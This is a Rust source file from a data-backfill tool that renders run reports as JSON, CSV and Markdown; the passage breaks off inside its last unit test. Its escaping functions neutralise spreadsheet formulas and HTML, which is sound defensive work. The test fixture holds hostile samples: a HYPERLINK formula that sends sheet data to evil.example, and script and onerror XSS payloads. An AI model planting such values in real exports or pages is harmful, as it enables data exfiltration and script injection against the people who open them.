//! The run's report as data, for sharing: a stable JSON document, CSV for
//! spreadsheets (one row per group) and Markdown for admins. Built from the
//! same plan and folded tally as the text report, never from a recount.
//!
//! The JSON shape is a documented contract (README, "Reports"): fields are
//! added, never renamed.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt::Write;

use crate::plan::{GroupStatus, PlannedGroup};
use crate::report::{summary_line, totals_phrase, RunView};
use crate::run::{Mode, RunKind};
use crate::spec::JobSpec;
use crate::tally::{Counts, GroupTally, Issues};

/// A report format of `backfill report --format`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Text,
    Markdown,
    Csv,
    Json,
}

impl std::str::FromStr for Format {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "text" => Ok(Format::Text),
            "md" | "markdown" => Ok(Format::Markdown),
            "csv" => Ok(Format::Csv),
            "json" => Ok(Format::Json),
            other => Err(format!(
                "unknown report format `{other}` (expected text, md, csv or json)"
            )),
        }
    }
}

/// The whole report. It leads with the outcome: `state`, `kind`, `mode`
/// and the totals (`counts`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ReportDoc {
    /// `done`, `failed`, `cancelled`, or `running` for a run still going.
    #[serde(default)]
    pub state: String,
    /// `forward`, `verify`, `revert of RUN`, `retry of RUN` or `sample SHARE`.
    #[serde(default)]
    pub kind: String,
    pub mode: String,
    pub counts: Counts,
    pub run_id: String,
    /// For a revert: the run it restores.
    #[serde(default)]
    pub revert_of: Option<String>,
    /// For a retry: the run whose quarantined rows it redoes.
    #[serde(default)]
    pub retry_of: Option<String>,
    /// For a sampled dry run: the share of the rows it read (0–1].
    #[serde(default)]
    pub sample: Option<f64>,
    pub job: String,
    pub scope: String,
    /// The job's parameters (`[params]`) with the run's values; absent for
    /// a job without parameters.
    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    pub params: std::collections::BTreeMap<String, serde_json::Value>,
    /// `group` (one entry per group of the job) or `target` (jobs without groups).
    pub grouped_by: String,
    pub groups: Vec<GroupReport>,
    pub conflicts: Vec<RowIssue>,
    /// Conflicts beyond those listed.
    pub conflicts_more: u64,
    pub errors: Vec<RowIssue>,
    pub errors_more: u64,
    pub summary: String,
}

/// One group (or target) of the report.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GroupReport {
    pub key: String,
    pub label: Option<String>,
    /// `YES`, `NO` or `SKIPPED`.
    pub change: String,
    /// Why it is skipped, or why nothing changes.
    pub reason: Option<String>,
    /// The value the rules write, when the spec names it.
    pub target: Option<String>,
    /// Distinct current values before the run, with their row counts.
    pub current: Vec<ValueCount>,
    /// Rows with values beyond those listed.
    pub current_other: u64,
    pub rows: Counts,
    /// References (e.g. certificates) the group's rows stand for, and those affected.
    pub refs: u64,
    pub refs_affected: u64,
    pub refs_skipped: BTreeMap<String, u64>,
    pub rows_skipped: BTreeMap<String, u64>,
    /// A few changed rows (the smallest keys): each changed JSON path with
    /// its value before and after.
    #[serde(default)]
    pub samples: Vec<crate::tally::SampleDiff>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ValueCount {
    pub value: String,
    pub rows: u64,
}

/// A row in conflict or in error: `target`, `key` and the message.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RowIssue {
    pub target: String,
    pub key: String,
    pub message: String,
}

fn issues(i: &Issues) -> Vec<RowIssue> {
    i.kept
        .iter()
        .map(|(k, m)| {
            let (target, key) = k.split_once('/').unwrap_or(("", k.as_str()));
            RowIssue {
                target: target.to_string(),
                key: key.to_string(),
                message: m.clone(),
            }
        })
        .collect()
}

fn change_of(status: &GroupStatus, g: &GroupTally) -> (String, Option<String>) {
    match status {
        GroupStatus::Skipped(r) => ("SKIPPED".into(), Some(r.clone())),
        GroupStatus::Unknown => ("SKIPPED".into(), Some("unknown key".into())),
        GroupStatus::Eligible if g.counts.changed > 0 => ("YES".into(), None),
        GroupStatus::Eligible if g.counts.processed == 0 && g.counts.skipped == 0 => {
            ("NO".into(), Some("nothing references it".into()))
        }
        GroupStatus::Eligible => ("NO".into(), None),
    }
}

fn group_report(
    key: &str,
    label: Option<String>,
    change: (String, Option<String>),
    target: Option<String>,
    g: &GroupTally,
    rows: Counts,
) -> GroupReport {
    GroupReport {
        key: key.to_string(),
        label,
        change: change.0,
        reason: change.1,
        target,
        current: g
            .current
            .kept
            .iter()
            .map(|(v, n)| ValueCount {
                value: v.clone(),
                rows: *n,
            })
            .collect(),
        current_other: g.current.other,
        rows,
        refs: g.refs,
        refs_affected: g.refs_affected,
        refs_skipped: g.refs_skipped.clone(),
        rows_skipped: g.skipped_by_reason.clone(),
        samples: g.samples.clone(),
    }
}

/// One planned group of a job with groups, as the report gives it; `g`:
/// its counts, `None` when nothing of it was counted.
pub fn group_entry(spec: &JobSpec, pg: &PlannedGroup, g: Option<&GroupTally>) -> GroupReport {
    let empty = GroupTally::default();
    let g = g.unwrap_or(&empty);
    let target = spec
        .report
        .target_param
        .as_ref()
        .and_then(|p| pg.params.get(p))
        .filter(|t| !t.is_null())
        .map(|t| crate::rules::display_value(Some(t)));
    group_report(
        &pg.key,
        pg.label.clone(),
        change_of(&pg.status, g),
        target,
        g,
        g.counts,
    )
}

/// The report of a run as data.
pub fn report_doc(v: &RunView<'_>) -> ReportDoc {
    let spec = v.spec;
    let empty = GroupTally::default();
    let mut groups = Vec::new();
    if spec.groups.is_some() {
        for pg in &v.plan.groups {
            groups.push(group_entry(spec, pg, v.tally.groups.get(&pg.key)));
        }
    } else {
        for t in &spec.targets {
            let c = v.tally.targets.get(&t.name).copied().unwrap_or_default();
            let g = v.tally.groups.get(&t.name).unwrap_or(&empty);
            let change = if c.changed > 0 { "YES" } else { "NO" };
            groups.push(group_report(
                &t.name,
                Some(format!("table {}", t.table)),
                (change.into(), None),
                None,
                g,
                c,
            ));
        }
    }
    let of = |k: RunKind| (v.kind == k).then(|| v.of.map(str::to_string)).flatten();
    ReportDoc {
        state: v.state.to_string(),
        kind: v.kind_label(),
        mode: v.mode.to_string(),
        counts: v.tally.counts,
        run_id: v.run_id.to_string(),
        revert_of: of(RunKind::Revert),
        retry_of: of(RunKind::Retry),
        sample: v.sample,
        job: spec.name.clone(),
        scope: v.scope.to_string(),
        params: spec
            .params
            .iter()
            .map(|p| (p.name.clone(), p.value.clone()))
            .collect(),
        grouped_by: if spec.groups.is_some() {
            "group"
        } else {
            "target"
        }
        .into(),
        groups,
        conflicts: issues(&v.tally.conflicts),
        conflicts_more: v.tally.conflicts.other,
        errors: issues(&v.tally.errors),
        errors_more: v.tally.errors.other,
        summary: summary_line(v),
    }
}

/// How many current values a cell shows before `+ N more values`.
pub const CELL_VALUES: usize = 3;

/// A group's current values in one cell: the [`CELL_VALUES`] held by the
/// most rows (ties in value order), `value (rows)` each, then `+ N more
/// values` for the other listed values and `other values (rows)` for the
/// rows whose values were beyond those listed. The JSON lists them all.
fn current_text(g: &GroupReport) -> String {
    let mut shown: Vec<&ValueCount> = g.current.iter().collect();
    shown.sort_by_key(|c| std::cmp::Reverse(c.rows));
    let more = shown.len().saturating_sub(CELL_VALUES);
    shown.truncate(CELL_VALUES);
    let mut parts: Vec<String> = shown
        .iter()
        .map(|c| format!("{} ({})", c.value, c.rows))
        .collect();
    if more > 0 {
        parts.push(format!("+ {more} more values"));
    }
    if g.current_other > 0 {
        parts.push(format!("other values ({})", g.current_other));
    }
    parts.join("; ")
}

/// The CSV header; one row per group follows.
pub const CSV_HEADER: [&str; 15] = [
    "key",
    "label",
    "change",
    "reason",
    "target",
    "current",
    "processed",
    "changed",
    "unchanged",
    "skipped",
    "conflicts",
    "errors",
    "refs",
    "refs_affected",
    "refs_skipped",
];

/// A text cell a spreadsheet will not evaluate: labels and values come from
/// the database (a page title anyone with CMS access can edit), and a cell
/// starting with `=`, `+`, `-`, `@`, tab or CR is a live formula in Excel,
/// LibreOffice and Google Sheets (`=HYPERLINK(...)` can exfiltrate the
/// sheet). The OWASP rule: prefix such a cell with `'`, which spreadsheets
/// show as text. Only text columns go through this; the counts are numbers.
pub fn csv_text(s: &str) -> String {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
        _ => s.to_string(),
    }
}

/// One row per group, with a header, RFC 4180 quoting; text cells are
/// neutralised by [`csv_text`].
pub fn render_csv(doc: &ReportDoc) -> String {
    let mut out = csv_header();
    for g in &doc.groups {
        out.push_str(&csv_row(g));
    }
    out
}

/// The CSV report's header line.
pub fn csv_header() -> String {
    csv_line(|w| w.write_record(CSV_HEADER))
}

/// One CSV record written by `f`, as text.
fn csv_line(f: impl FnOnce(&mut csv::Writer<Vec<u8>>) -> csv::Result<()>) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    let _ = f(&mut w);
    w.into_inner()
        .map(|b| String::from_utf8_lossy(&b).to_string())
        .unwrap_or_default()
}

/// One group's CSV record (a line).
pub fn csv_row(g: &GroupReport) -> String {
    csv_line(|w| {
        let r = &g.rows;
        let skipped_refs: u64 = g.refs_skipped.values().sum();
        w.write_record([
            csv_text(&g.key),
            csv_text(g.label.as_deref().unwrap_or_default()),
            csv_text(&g.change),
            csv_text(g.reason.as_deref().unwrap_or_default()),
            csv_text(g.target.as_deref().unwrap_or_default()),
            csv_text(&current_text(g)),
            r.processed.to_string(),
            r.changed.to_string(),
            r.unchanged.to_string(),
            r.skipped.to_string(),
            r.conflicts.to_string(),
            r.errors.to_string(),
            g.refs.to_string(),
            g.refs_affected.to_string(),
            skipped_refs.to_string(),
        ])
    })
}

/// Text for a Markdown table cell or list item, shown as written: Markdown
/// renderers pass raw HTML through, so `<`, `>` and `&` become entities (a
/// label `<img src=x onerror=...>` shows as text, never runs); the inline
/// syntax characters (backslash, backtick, `*`, `_`, `[`, `]`) are
/// backslash-escaped so a label cannot open a code span, emphasis or link;
/// `|` is escaped so it cannot end the cell, and line breaks become spaces
/// so the row stays one line (a line break could start an HTML block).
fn md_cell(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' => {
                out.push('\\');
                out.push(c);
            }
            '\n' | '\r' => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// Markdown for sharing with admins: a table of groups, then conflicts and
/// errors with their keys, then the summary.
pub fn render_markdown(doc: &ReportDoc) -> String {
    let mut r = MarkdownReport::new(doc.groups.len());
    let mut out = r.head(doc);
    for g in &doc.groups {
        out.push_str(&r.group(g));
    }
    out.push_str(&r.tail(doc));
    out
}

/// The Markdown report, written a part at a time: its head, each group's
/// row as it is read, then its tail ([`render_markdown`] made whole). It
/// keeps only the groups with sample changes, for the section after the
/// table.
pub struct MarkdownReport {
    long: bool,
    quiet: u64,
    sampled: Vec<GroupReport>,
}

impl MarkdownReport {
    /// A report of `groups` groups.
    pub fn new(groups: usize) -> Self {
        MarkdownReport {
            long: groups > crate::report::LISTED_GROUPS,
            quiet: 0,
            sampled: Vec::new(),
        }
    }

    /// The outcome, the run and the table's header; `doc.groups` is not read.
    pub fn head(&self, doc: &ReportDoc) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "# Run {}\n", md_cell(&doc.run_id));
        // The outcome first: state, kind, mode and totals.
        let mode = doc.mode.parse::<Mode>().unwrap_or_default();
        let _ = writeln!(out, "- **State:** {}", md_cell(&doc.state));
        let _ = writeln!(out, "- **Kind:** {}", md_cell(&doc.kind));
        let _ = writeln!(out, "- **Mode:** {}", md_cell(&doc.mode));
        let _ = writeln!(out, "- **Totals:** {}\n", totals_phrase(&doc.counts, mode));
        if !doc.params.is_empty() {
            let pairs = crate::params::describe_values(&doc.params);
            let _ = writeln!(out, "Parameters: {}\n", md_cell(&pairs));
        }
        let _ = writeln!(
            out,
            "Job {}, scope {}.{}\n",
            md_cell(&doc.job),
            md_cell(&doc.scope),
            if doc.mode == "dry-run" {
                " Dry run: nothing was written."
            } else {
                ""
            }
        );
        let _ = writeln!(
            out,
            "| {} | label | change | target | current values (rows) | rows | changed | unchanged | skipped | conflicts | errors | refs affected |",
            doc.grouped_by
        );
        let _ = writeln!(
            out,
            "| --- | --- | --- | --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |"
        );
        out
    }

    /// One group's row of the table (empty for an uneventful group of a
    /// long report).
    pub fn group(&mut self, g: &GroupReport) -> String {
        if !g.samples.is_empty() {
            self.sampled.push(g.clone());
        }
        if self.long
            && g.reason.is_none()
            && !crate::report::eventful(&GroupStatus::Eligible, &g.rows)
        {
            self.quiet += 1;
            return String::new();
        }
        let change = match &g.reason {
            Some(r) => format!("{} ({})", g.change, r),
            None => g.change.clone(),
        };
        format!(
            "| {} | {} | {} | {} | {} | {} | {} | {} | {} | {} | {} | {} of {} |\n",
            md_cell(&g.key),
            md_cell(g.label.as_deref().unwrap_or("")),
            md_cell(&change),
            md_cell(g.target.as_deref().unwrap_or("")),
            md_cell(&current_text(g)),
            g.rows.processed,
            g.rows.changed,
            g.rows.unchanged,
            g.rows.skipped,
            g.rows.conflicts,
            g.rows.errors,
            g.refs_affected,
            g.refs
        )
    }

    /// The groups left out, sample changes, conflicts, errors and the
    /// summary; `doc.groups` is not read.
    pub fn tail(&self, doc: &ReportDoc) -> String {
        let mut out = String::new();
        if self.quiet > 0 {
            let noun = md_cell(&doc.grouped_by);
            let _ = writeln!(
                out,
                "\n{}",
                crate::report::unchanged_line(self.quiet, &noun)
            );
        }
        if !self.sampled.is_empty() {
            let _ = writeln!(out, "\n## Sample changes\n");
            for g in &self.sampled {
                let _ = writeln!(out, "{} {}:\n", doc.grouped_by, md_cell(&g.key));
                for sd in &g.samples {
                    for c in &sd.changes {
                        let show = |v: &Option<serde_json::Value>| match v {
                            Some(v) => md_cell(&v.to_string()),
                            None => "(absent)".to_string(),
                        };
                        let _ = writeln!(
                            out,
                            "- row {}, {} at {}: {} → {}",
                            md_cell(&sd.key),
                            md_cell(&sd.column),
                            md_cell(if c.path.is_empty() { "/" } else { &c.path }),
                            show(&c.before),
                            show(&c.after)
                        );
                    }
                }
                let _ = writeln!(out);
            }
        }
        for (title, list, more) in [
            ("Conflicts", &doc.conflicts, doc.conflicts_more),
            ("Errors", &doc.errors, doc.errors_more),
        ] {
            if list.is_empty() && more == 0 {
                continue;
            }
            let _ = writeln!(out, "\n## {title}\n");
            for i in list {
                let _ = writeln!(
                    out,
                    "- {}: {}",
                    md_cell(&format!("{}/{}", i.target, i.key)),
                    md_cell(&i.message)
                );
            }
            if more > 0 {
                let _ = writeln!(out, "- … and {more} more");
            }
        }
        let _ = writeln!(out, "\n```\n{}\n```", doc.summary);
        out
    }
}

/// The pretty JSON report around its list of groups: the text before the
/// first group and the text after the last, for a report written a group
/// at a time ([`json_group`] each, joined by [`JSON_GROUP_SEPARATOR`]).
/// With `groups` false (a report of no groups) the list is `[]`. The
/// parts and groups together are `serde_json::to_string_pretty` of the
/// whole document, byte for byte; `doc.groups` is not read.
pub fn json_parts(doc: &ReportDoc, groups: bool) -> Result<(String, String), serde_json::Error> {
    let shell = ReportDoc {
        groups: vec![],
        ..doc.clone()
    };
    let text = serde_json::to_string_pretty(&shell)?;
    const EMPTY: &str = "\n  \"groups\": [],\n";
    let at = text.find(EMPTY).ok_or_else(|| {
        <serde_json::Error as serde::de::Error>::custom("the report has no list of groups")
    })?;
    // `before` ends with `"groups": `, `after` starts with the `,` after `[]`.
    let (before, after) = text.split_at(at + EMPTY.len() - 4);
    let after = &after[2..];
    Ok(if groups {
        (format!("{before}[\n"), format!("\n  ]{after}"))
    } else {
        (format!("{before}[]"), after.to_string())
    })
}

/// What goes between two groups of the JSON report.
pub const JSON_GROUP_SEPARATOR: &str = ",\n";

/// One group of the pretty JSON report, indented for its place in the list.
pub fn json_group(g: &GroupReport) -> Result<String, serde_json::Error> {
    let text = serde_json::to_string_pretty(g)?;
    let mut out = String::with_capacity(text.len() + 64);
    for (i, line) in text.lines().enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str("    ");
        out.push_str(line);
    }
    Ok(out)
}

/// The group part of [`plan_diff`]: status, label and target value per
/// group, and groups in one list only. Empty when they agree.
pub fn groups_diff(
    a: &[crate::PlannedGroup],
    b: &[crate::PlannedGroup],
    target_param: Option<&str>,
    noun: &str,
) -> Vec<String> {
    use std::collections::BTreeMap as Map;
    let index = |p: &[crate::PlannedGroup]| -> Map<String, crate::PlannedGroup> {
        p.iter().map(|g| (g.key.clone(), g.clone())).collect()
    };
    let (ga, gb) = (index(a), index(b));
    let status = |s: &GroupStatus| match s {
        GroupStatus::Eligible => "eligible".to_string(),
        GroupStatus::Skipped(r) => format!("skipped ({r})"),
        GroupStatus::Unknown => "unknown key".to_string(),
    };
    let target = |g: &crate::PlannedGroup| {
        target_param
            .and_then(|p| g.params.get(p))
            .map(|v| crate::rules::display_value(Some(v)))
    };
    let mut out = Vec::new();
    let keys: std::collections::BTreeSet<&String> = ga.keys().chain(gb.keys()).collect();
    for k in keys {
        match (ga.get(k), gb.get(k)) {
            (Some(_), None) => out.push(format!("{noun} {k}: only in the first run")),
            (None, Some(_)) => out.push(format!("{noun} {k}: only in the second run")),
            (Some(x), Some(y)) => {
                if x.status != y.status {
                    out.push(format!(
                        "{noun} {k}: {} → {}",
                        status(&x.status),
                        status(&y.status)
                    ));
                }
                if target(x) != target(y) {
                    out.push(format!(
                        "{noun} {k}: target {:?} → {:?}",
                        target(x).unwrap_or_default(),
                        target(y).unwrap_or_default()
                    ));
                }
                if x.label != y.label {
                    out.push(format!(
                        "{noun} {k}: label {:?} → {:?}",
                        x.label.clone().unwrap_or_default(),
                        y.label.clone().unwrap_or_default()
                    ));
                }
            }
            (None, None) => {}
        }
    }
    out
}

/// What changed in a plan between two runs of a job (a dry run reviewed
/// yesterday and today's commit, say): per group, one line for each
/// difference in its status, label or target value, and groups in one plan
/// only. Empty when the plans agree.
pub fn plan_diff(
    a: &crate::Plan,
    b: &crate::Plan,
    target_param: Option<&str>,
    noun: &str,
) -> Vec<String> {
    use std::collections::BTreeMap as Map;
    let mut out = groups_diff(&a.groups, &b.groups, target_param, noun);
    let rows = |p: &crate::Plan| -> Map<String, u64> {
        p.targets.iter().map(|t| (t.name.clone(), t.rows)).collect()
    };
    let (ra, rb) = (rows(a), rows(b));
    for (t, n) in &ra {
        let m = rb.get(t).copied().unwrap_or(0);
        if *n != m {
            out.push(format!("target {t}: {n} rows → {m} rows"));
        }
    }
    for (t, m) in &rb {
        if !ra.contains_key(t) {
            out.push(format!("target {t}: 0 rows → {m} rows"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc() -> ReportDoc {
        ReportDoc {
            state: "done".into(),
            kind: "forward".into(),
            revert_of: None,
            retry_of: None,
            sample: None,
            run_id: "r1".into(),
            job: "titles".into(),
            mode: "dry-run".into(),
            scope: "all".into(),
            params: Default::default(),
            grouped_by: "group".into(),
            groups: vec![GroupReport {
                key: "P|1".into(),
                label: Some("Data, \"Science\"".into()),
                change: "YES".into(),
                reason: None,
                target: Some("Data Science".into()),
                current: vec![ValueCount {
                    value: "Old, title".into(),
                    rows: 2,
                }],
                current_other: 1,
                rows: Counts {
                    processed: 3,
                    changed: 2,
                    unchanged: 1,
                    ..Counts::default()
                },
                refs: 5,
                refs_affected: 4,
                refs_skipped: BTreeMap::from([("revoked".to_string(), 1)]),
                rows_skipped: BTreeMap::new(),
                samples: vec![crate::tally::SampleDiff::between(
                    "7",
                    "content",
                    Some(r#"{"product_name":"Old, title","n":1}"#),
                    Some(r#"{"product_name":"Data Science","n":1}"#),
                )],
            }],
            counts: Counts::default(),
            conflicts: vec![RowIssue {
                target: "revisions".into(),
                key: "7".into(),
                message: "edited".into(),
            }],
            conflicts_more: 0,
            errors: vec![],
            errors_more: 0,
            summary: "Summary: mode=dry-run".into(),
        }
    }

    /// A view of a run whose one group holds `values` distinct current
    /// values, one row each.
    fn many_values_view_text(values: usize, state: crate::RunState) -> (ReportDoc, String) {
        use crate::plan::PlannedGroup;
        use crate::tally::Recorded;
        use crate::{JobSpec, Plan, Tally};
        let spec = JobSpec::parse(
            r#"
name = "titles"
[groups]
query = "SELECT 1"
[[targets]]
name = "revisions"
table = "t"
key = "id"
key_type = "integer"
columns = ["content"]
query = "SELECT 1"
[[targets.rules]]
op = "set"
path = "/n"
value = "x"
"#,
        )
        .unwrap();
        let plan = Plan {
            groups: vec![PlannedGroup {
                key: "P1".into(),
                label: None,
                params: Default::default(),
                status: GroupStatus::Eligible,
            }],
            targets: vec![],
            shards_total: 1,
            tally: Tally::default(),
        };
        let mut tally = Tally::default();
        for i in 0..values {
            let value = format!("v{i:02}");
            // v00 is held by the most rows, then v01.
            let rows = match i {
                0 => 3,
                1 => 2,
                _ => 1,
            };
            for r in 0..rows {
                tally.record_row(
                    "revisions",
                    "P1",
                    &format!("{i}-{r}"),
                    1,
                    Recorded::Changed,
                    Some(&value),
                );
            }
        }
        let v = RunView {
            run_id: "r9",
            spec: &spec,
            mode: Mode::Commit,
            scope: "all",
            plan: &plan,
            tally: &tally,
            cancelled: None,
            state,
            kind: RunKind::Revert,
            of: Some("r8"),
            sample: None,
        };
        (report_doc(&v), crate::report::render_report(&v))
    }

    #[test]
    fn a_cell_of_current_values_shows_three_then_how_many_more() {
        // 17 distinct values, all listed (under the cap of 20).
        let (doc, _) = many_values_view_text(17, crate::RunState::Done);
        assert_eq!(doc.groups[0].current.len(), 17, "the JSON lists them all");
        assert_eq!(
            current_text(&doc.groups[0]),
            "v00 (3); v01 (2); v02 (1); + 14 more values"
        );
        let md = render_markdown(&doc);
        assert!(
            md.contains("| v00 (3); v01 (2); v02 (1); + 14 more values |"),
            "{md}"
        );
        let csv = render_csv(&doc);
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
        assert_eq!(&rows[0][5], "v00 (3); v01 (2); v02 (1); + 14 more values");

        // Beyond the cap: 20 listed (3 shown, 17 more), and the rows of the rest.
        let (doc, _) = many_values_view_text(25, crate::RunState::Done);
        assert_eq!(
            current_text(&doc.groups[0]),
            "v00 (3); v01 (2); v02 (1); + 17 more values; other values (5)"
        );
        // Three or fewer: all shown, no count.
        let (doc, _) = many_values_view_text(3, crate::RunState::Done);
        assert_eq!(current_text(&doc.groups[0]), "v00 (3); v01 (2); v02 (1)");
    }

    #[test]
    fn markdown_and_json_lead_with_state_kind_mode_and_totals() {
        let (doc, _) = many_values_view_text(4, crate::RunState::Failed);
        assert_eq!(doc.state, "failed");
        assert_eq!(doc.kind, "revert of r8");
        assert_eq!(doc.revert_of.as_deref(), Some("r8"));
        assert_eq!(doc.retry_of, None);
        assert!(
            doc.summary.ends_with(" run=r9 state=failed"),
            "{}",
            doc.summary
        );

        let md = render_markdown(&doc);
        let head: Vec<&str> = md.lines().take(6).collect();
        assert_eq!(
            head,
            [
                "# Run r9",
                "",
                "- **State:** failed",
                "- **Kind:** revert of r8",
                "- **Mode:** commit",
                "- **Totals:** 7 processed, 7 changed, 0 unchanged, 0 skipped, 0 conflicts, 0 errors",
            ],
            "{md}"
        );

        // JSON: the header's fields come first; every field of before is kept.
        let json = serde_json::to_string_pretty(&doc).unwrap();
        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
        let keys: Vec<&str> = value
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(&keys[..4], ["state", "kind", "mode", "counts"], "{json}");
        for old in [
            "run_id",
            "job",
            "mode",
            "scope",
            "grouped_by",
            "groups",
            "counts",
            "conflicts",
            "conflicts_more",
            "errors",
            "errors_more",
            "summary",
        ] {
            assert!(value.get(old).is_some(), "{old} missing from {json}");
        }
        assert_eq!(value["counts"]["processed"], 7);
        assert_eq!(value["state"], "failed");
        assert_eq!(value["kind"], "revert of r8");
        // A document written before the header still reads.
        let mut before = value.clone();
        for new in ["state", "kind", "revert_of", "retry_of", "sample"] {
            before.as_object_mut().unwrap().remove(new);
        }
        let old: ReportDoc = serde_json::from_value(before).unwrap();
        assert_eq!(old.run_id, "r9");
        assert_eq!(old.state, "");
    }

    #[test]
    fn plan_diff_names_what_changed() {
        use crate::plan::{PlannedGroup, PlannedTarget};
        use crate::Plan;
        let g = |key: &str, title: &str, status: GroupStatus| PlannedGroup {
            key: key.into(),
            label: Some("L".into()),
            params: serde_json::json!({ "target_title": title })
                .as_object()
                .cloned()
                .unwrap_or_default(),
            status,
        };
        let plan = |groups: Vec<PlannedGroup>, rows: u64| Plan {
            groups,
            targets: vec![PlannedTarget {
                name: "revisions".into(),
                rows,
                shards: 1,
            }],
            shards_total: 1,
            tally: Default::default(),
        };
        let a = plan(
            vec![
                g("A", "Old", GroupStatus::Eligible),
                g("B", "x", GroupStatus::Eligible),
            ],
            10,
        );
        assert!(plan_diff(&a, &a, Some("target_title"), "program").is_empty());
        let b = plan(
            vec![
                g("A", "New", GroupStatus::Eligible),
                g("B", "x", GroupStatus::Skipped("placeholder".into())),
                g("C", "y", GroupStatus::Eligible),
            ],
            12,
        );
        let d = plan_diff(&a, &b, Some("target_title"), "program");
        assert_eq!(
            d,
            vec![
                "program A: target \"Old\" → \"New\"",
                "program B: eligible → skipped (placeholder)",
                "program C: only in the second run",
                "target revisions: 10 rows → 12 rows",
            ]
        );
    }

    #[test]
    fn csv_round_trips_through_a_csv_reader() {
        let text = render_csv(&doc());
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(header, CSV_HEADER);
        let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 1);
        assert_eq!(&rows[0][1], "Data, \"Science\"");
        assert_eq!(&rows[0][5], "Old, title (2); other values (1)");
        assert_eq!(&rows[0][7], "2");
        assert_eq!(&rows[0][14], "1");
    }

    #[test]
    fn json_round_trips_and_markdown_escapes_pipes() {
        let d = doc();
        let back: ReportDoc = serde_json::from_str(&serde_json::to_string(&d).unwrap()).unwrap();
        assert_eq!(back, d);
        let md = render_markdown(&d);
        assert!(md.contains("| P\\|1 |"), "{md}");
        assert!(md.contains("- revisions/7: edited"), "{md}");
        assert!(md.contains("4 of 5"), "{md}");
        // Only the changed path, with both values; `n` did not change.
        assert!(
            md.contains("- row 7, content at /product\\_name: \"Old, title\" → \"Data Science\""),
            "{md}"
        );
        assert!(!md.contains("at /n:"), "{md}");
        assert_eq!("md".parse::<Format>(), Ok(Format::Markdown));
        assert!("xml".parse::<Format>().is_err());
    }

    /// The JSON report written a group at a time is the whole document's
    /// pretty JSON, byte for byte, with no group, one, or several.
    #[test]
    fn json_written_a_group_at_a_time_is_the_whole_document() {
        for n in [0usize, 1, 3] {
            let mut d = doc();
            let one = d.groups[0].clone();
            d.groups = (0..n)
                .map(|i| GroupReport {
                    key: format!("P{i}"),
                    ..one.clone()
                })
                .collect();
            let (head, tail) = json_parts(&d, n > 0).unwrap();
            let groups: Vec<String> = d.groups.iter().map(|g| json_group(g).unwrap()).collect();
            let streamed = format!("{head}{}{tail}", groups.join(JSON_GROUP_SEPARATOR));
            assert_eq!(
                streamed,
                serde_json::to_string_pretty(&d).unwrap(),
                "{n} groups"
            );
        }
    }

    /// CSV and Markdown written a group at a time are the whole reports.
    #[test]
    fn csv_and_markdown_written_a_group_at_a_time_are_the_whole_reports() {
        let mut d = doc();
        let one = d.groups[0].clone();
        // Past the listed-groups limit: uneventful groups leave the table.
        d.groups = (0..crate::report::LISTED_GROUPS + 5)
            .map(|i| GroupReport {
                key: format!("P{i}"),
                rows: if i % 10 == 0 {
                    one.rows
                } else {
                    Counts {
                        processed: 1,
                        unchanged: 1,
                        ..Counts::default()
                    }
                },
                ..one.clone()
            })
            .collect();
        let mut csv = csv_header();
        let mut md = MarkdownReport::new(d.groups.len());
        let mut md_text = md.head(&d);
        for g in &d.groups {
            csv.push_str(&csv_row(g));
            md_text.push_str(&md.group(g));
        }
        md_text.push_str(&md.tail(&d));
        assert_eq!(csv, render_csv(&d));
        assert_eq!(md_text, render_markdown(&d));
        assert!(
            md_text.contains("Unchanged: 49 groups with nothing to change"),
            "{md_text}"
        );
    }

    /// A doc whose texts are hostile: formulas for spreadsheets, HTML and
    /// Markdown breakouts for renderers.
    fn hostile_doc() -> ReportDoc {
        let mut d = doc();
        let g = &mut d.groups[0];
        g.key = "-5".into();
        g.label = Some(r#"=HYPERLINK("http://evil.example/?d="&A2,"Open")"#.into());
        g.reason = Some("@SUM(1+1)".into());
        g.target = Some("<img src=x onerror=alert(1)>".into());
        g.current = vec![ValueCount {
            value: "+1 <script>alert(1)</script>".into(),
            rows: 2,
        }];
        g.samples = vec![crate::tally::SampleDiff::between(
            "7`<script>x</script>",
            "content",
            Some(r#"{"product_name":"a`<script>alert(1)</script>"}"#),
            Some(r#"{"product_name":"\tb"}"#),
        )];
        d.conflicts[0].key = "k`\n<script>".into();
        d.conflicts[0].message = "<b>edited</b> & more".into();
        d
    }

    #[test]
    fn csv_text_cells_starting_a_formula_are_quoted() {
        for s in ["=1+1", "+1", "-5 years", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(csv_text(s), format!("'{s}"));
        }
        for s in ["", "Data Science", "5", "a=b", " =1", "'x"] {
            assert_eq!(csv_text(s), s);
        }
        let text = render_csv(&hostile_doc());
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
